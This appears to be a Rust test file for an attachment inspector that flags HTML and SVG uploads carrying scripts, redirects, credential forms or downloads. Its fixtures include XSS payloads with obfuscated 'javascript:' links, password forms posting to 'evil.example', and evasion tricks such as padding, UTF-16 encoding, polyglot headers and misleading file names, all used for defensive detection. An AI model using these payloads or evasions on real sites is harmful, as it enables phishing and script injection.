//! Pages and drawings.

use chatward_attach::{Inspector, Kind, Sent, Why};

use crate::made;
use crate::{has, innocent, links, looked, texts, whys};

#[test]
fn pages_are_told_by_what_they_do() {
    for (page, id) in [
        ("<html><script>alert(1)</script>", "file.page-script"),
        ("<html><img src=x onerror=alert(1)>", "file.page-script"),
        ("<html><a href=' java\nscript&colon;alert(1)'>x</a>", "file.page-script"),
        ("<html><a href=\"&#106;avascript:x\">x</a>", "file.page-script"),
        ("<html><head><META HTTP-EQUIV=Refresh content='0; URL=http://evil.example'>", "file.page-forwards"),
        ("<html><form action=https://evil.example/in><input type=text>", "file.page-form"),
        ("<html><form><INPUT TYPE = 'PassWord'>", "file.page-asks"),
        ("<html><iframe src=https://evil.example>", "file.page-frames"),
        (
            "<html><script>var b=new Blob([new Uint8Array(x)]);a.href=URL.createObjectURL(b);a.click()</script>",
            "file.page-builds",
        ),
        ("<html><a download=a.exe href=data:application/octet-stream;base64,TVo>x</a>", "file.page-builds"),
    ] {
        has("a.html", page.as_bytes(), id);
    }
    let page = "<!DOCTYPE html><html><head><title>Returns</title><style>p{}</style></head><body><p>Send &amp; wait</p>\
                <a href=\"https://shop.example/r\">form</a><!-- <script> --></body></html>";
    let verdict = innocent("a.html", page.as_bytes());
    assert!(texts(&verdict).contains("Send & wait") && !texts(&verdict).contains("p{}"));
    assert_eq!(links(&verdict), ["https://shop.example/r"]);
    let forwards = has(
        "b.html",
        b"<html><meta http-equiv=refresh content=\"0;url='http://evil.example/x'\">",
        "file.page-forwards",
    );
    assert_eq!(links(&forwards), ["http://evil.example/x"]);
}

#[test]
fn drawings_are_told_by_what_they_do() {
    has("a.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>", "file.page-script");
    has("a.svg", b"<?xml version=\"1.0\"?><svg onload=\"x()\"/>", "file.page-script");
    has("a.svg", b"<svg><foreignObject><body/></foreignObject></svg>", "file.page-frames");
    has("a.svg", b"<svg><a xlink:href=\"javascript:x\"/></svg>", "file.page-script");
    let wide: Vec<u8> = [0xfeff_u16]
        .into_iter()
        .chain("<svg><script>x</script></svg>".encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    has("a.svg", &wide, "file.page-script");
    innocent("b.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>");
}

/// A page that asks for a password.
const ASKS: &str =
    "<html><body><form action=\"https://evil.example/\"><input type=password></form></body></html>";

#[test]
fn no_padding_and_no_missing_head_hides_a_page() {
    let bare = "<div><h1>Sign in</h1><input type=password></div><img src=x onerror=\"go()\">";
    let late = format!("words {}{bare}", " words".repeat(3_000));
    let wide: Vec<u8> = bare.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for bytes in [
        format!("{}{ASKS}", " ".repeat(8_300)).into_bytes(),
        format!("<!-- {} -->{ASKS}", "x".repeat(9_000)).into_bytes(),
        format!("<!-- \0 -->{ASKS}").into_bytes(),
        format!("<!-->{ASKS}").into_bytes(),
        bare.as_bytes().to_vec(),
        late.into_bytes(),
        [b"GIF89a", bare.as_bytes()].concat(),
        [b"{\\rtf1 x}", bare.as_bytes()].concat(),
        [b"#!/bin/sh\n", bare.as_bytes()].concat(),
        wide,
        b"<svg><style/><a><foreignObject><input type=password></foreignObject></a></svg>".to_vec(),
    ] {
        for name in ["a.html", "a.HTM", "a.xhtml", "a.shtml"] {
            has(name, &bytes, "file.page-asks");
        }
        let declared = Sent { name: "a", media_type: Some("text/HTML; charset=utf-8"), bytes: &bytes };
        assert!(Inspector::default().inspect(&declared, &|_| None).has("file.page-asks"));
        // The same file under another name, in front of it.
        let zip = made::zip(&[("a.bin", &bytes), ("a.html", &bytes)]);
        has("a.zip", &zip, "file.page-asks");
    }
    // Under a name that promises nothing, or something else.
    for name in ["a", "a.unheard", "photo.png", "report.doc"] {
        has(name, bare.as_bytes(), "file.page-asks");
    }
    has("photo.png", bare.as_bytes(), "file.active-mismatch");
    has("a.md", b"Hello <img src=x onerror=go()> there", "file.page-script");
    has("a.txt", bare.as_bytes(), "file.page-asks");
    assert!(innocent("a.html", b"<p>Hello <b>there</b>").kind() == Kind::Html);
}

#[test]
fn a_text_that_names_a_tag_is_no_page() {
    for (name, text) in [
        ("note.txt", "Put <input type=password> into a <form action=x>: what does it do?"),
        ("", "What does <script> do?"),
        (
            "README.md",
            "<p align=center><img src=a.png></p>\n\n```html\n<script src=x></script>\n```\nand `<input type=password>`.",
        ),
        ("a.json", "{\"page\": \"<input type=password onclick=x>\"}"),
        ("a.csv", "name,note\nAnna,<input type=password>\n"),
        ("code", "if (a < b) { Vec<u> x; }"),
    ] {
        innocent(name, text.as_bytes());
    }
}

#[test]
fn more_attributes_than_are_read_are_told() {
    let page = format!("<p {}>", "a=1 ".repeat(200));
    assert_eq!(whys(&looked("a.html", page.as_bytes())), [Why::TooMany]);
}
